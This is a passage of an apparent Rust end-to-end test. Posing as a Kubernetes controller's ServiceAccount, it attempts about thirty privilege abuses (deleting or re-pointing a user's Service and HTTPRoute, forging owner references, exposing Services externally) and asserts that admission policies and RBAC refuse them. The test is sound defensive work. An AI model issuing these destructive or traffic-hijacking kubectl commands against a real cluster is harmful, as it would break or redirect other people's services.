            "an own Service selecting the Service's pods without the role label",
            create("svc-no-role"),
            "selects the pods of its Service that carry recordingcanary.dev/role",
        ),
        (
            "an own stable Service selecting the clone's pods",
            create("svc-wrong-role"),
            "selects the pods of its Service that carry recordingcanary.dev/role",
        ),
        (
            "an own Service selecting every stable pod of the namespace",
            create("svc-only-role"),
            "selects the pods of its Service that carry recordingcanary.dev/role",
        ),
        (
            "an own Service of type NodePort",
            create("svc-nodeport"),
            "is of type ClusterIP",
        ),
        (
            "an own Service with externalIPs",
            create("svc-external-ips"),
            "without externalIPs",
        ),
        (
            "an own Service of type ExternalName",
            create("svc-external-name"),
            "is of type ClusterIP",
        ),
        (
            "an own Service named for another canary",
            create("svc-other-canary"),
            "the Services of RecordingCanary frontend are frontend-stable and frontend-recording",
        ),
        (
            "an own Service with a forged owner uid",
            create("svc-forged-uid"),
            "only with the owner reference of RecordingCanary frontend itself",
        ),
        (
            "the user's Service re-pointed at other pods",
            merge(
                "service/frontend",
                json!({"spec": {"selector": {"app": "payments"}}}),
            ),
            "only its own Services",
        ),
        (
            "the user's Service deleted",
            ["delete", "service/frontend", "--dry-run=server"]
                .map(String::from)
                .to_vec(),
            "only its own Services",
        ),
        (
            "an own HTTPRoute with a Gateway parent",
            create("route-gateway-parent"),
            // Two fences refuse it; the API server names the first.
            "attached only to a Service of its namespace | may have only its Service frontend as a parent",
        ),
        (
            "an own HTTPRoute attached to a Service of another namespace",
            create("route-other-ns-parent"),
            "attached only to a Service of its namespace",
        ),
        (
            "an own HTTPRoute attached to another Service",
            create("route-other-parent"),
            "may have only its Service frontend as a parent",
        ),
        (
            "an own HTTPRoute sending to another Service",
            create("route-other-backend"),
            "only sends (and mirrors) to its Services | may send and mirror only to its Services frontend-stable and frontend-recording",
        ),
        (
            "an own HTTPRoute rewriting paths",
            create("route-rewrite"),
            "no filters but its mirror",
        ),
        (
            "an own HTTPRoute sending to another canary's Service",
            create("route-other-canary-backend"),
            "may send and mirror only to its Services frontend-stable and frontend-recording",
        ),
        (
            "a share of a user's split rule sent to another Service",
            merge(route, rules(&pointed_away)),
            "may split only a backend frontend between the Services of RecordingCanary frontend",
        ),
        (
            "a user's split rule put back as another Service",
            merge(route, rules(&repointed)),
            "put back only frontend",
        ),
        (
            "a user's route pointed at another Service",
            merge(
                "httproute.gateway.networking.k8s.io/payments",
                json!({"spec": {"rules": [{"backendRefs": [backend("frontend", 1)]}]}}),
            ),
            "never point a rule at another Service",
        ),
        (
            "another Service's route split to this canary's Services",
            merge(
                "httproute.gateway.networking.k8s.io/payments",
                json!({"spec": {"rules": [{"backendRefs": [backend("frontend-stable", 90), backend("frontend-recording", 10)]}]}}),
            ),
            "may split only a backend frontend between the Services of RecordingCanary frontend",
        ),
        (
            "a user's rule matching more",
            merge(route, rules(&matches_changed)),
            "may not add, remove, reorder or change your rules",
        ),
        (
            "a user's rule losing its timeout",
            merge(route, rules(&timeout_gone)),
            "may not add, remove, reorder or change your rules",
        ),
        (
            "a user's rule removed",
            merge(route, rules(&rule_removed)),
            "may not add, remove, reorder or change your rules",
        ),
        (
            "a header set on a user's rule",
            merge(route, rules(&header_added)),
            "may keep your filters as they are",
        ),
        (
            "a mirror of a user's rule to another Service",
            merge(route, rules(&mirror_away)),
            "may keep your filters as they are",
        ),
        (
            "an always rule matching more than the rule it copies",
            merge(route, rules(&always_wider)),
            "matching no more than it",
        ),
        (
            "an always rule sending to another Service",
            merge(route, rules(&always_elsewhere)),
            "sending only to the controller's Services that rule sends to",
        ),
        (
            "a Gateway parent added to a user's route",
            merge(
                route,
                json!({"spec": {"parentRefs": [service_parent, {"name": "public", "namespace": "istio-ingress"}]}}),
            ),
            "may change only .spec.rules",
        ),
        (
            "a label of a user's route changed",
            merge(route, json!({"metadata": {"labels": {"team": "evil"}}})),
            "may change no label, owner or annotation but recordingcanary.dev/restore",
        ),
        (
            "a user's route deleted",
            ["delete", route, "--dry-run=server"]
                .map(String::from)
                .to_vec(),
            "only the HTTPRoutes it owns",
        ),
    ];
    let mut refused = 0;
    for (what, args, says) in &abuses {
        let out = run_as_sa(args.clone()).await;
        assert!(
            !out.ok
                && out.stderr.contains("ValidatingAdmissionPolicy")
                && says.split(" | ").any(|s| out.stderr.contains(s)),
            "as the controller's ServiceAccount, `{what}` must be refused by a fence saying \"{says}\"; got {out:?}"
        );
        refused += 1;
        eprintln!("[e2e] {ns}: refused {what}: {}", out.stderr.trim());
    }
    assert!(refused >= 20, "only {refused} abuses tried");
    // GRPCRoutes are only read: RBAC refuses any write.
    let grpc = json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "GRPCRoute",
        "metadata": {"name": "frontend"}, "spec": {"parentRefs": [service_parent]}});
    let grpc_path = h.manifest("grpcroute", &grpc.to_string());
    let out = run_as_sa(create_path(&grpc_path)).await;
    assert!(
        !out.ok && out.stderr.contains("forbidden"),
        "the controller's ServiceAccount may not create a GRPCRoute: {out:?}"
    );
}

fn create_path(p: &std::path::Path) -> Vec<String> {
    vec![
        "create".into(),
        "--dry-run=server".into(),
        "-f".into(),
        p.to_str().expect("utf-8 path").into(),
    ]
}

/// Runs kubectl in `h`'s namespace as `who` (impersonated).
async fn kubectl_as(h: &Harness, who: &str, args: Vec<String>) -> crate::support::KubectlOutput {
    let mut full = vec!["--as", who];
    full.extend(args.iter().map(String::as_str));
    h.kubectl(&full).await
}
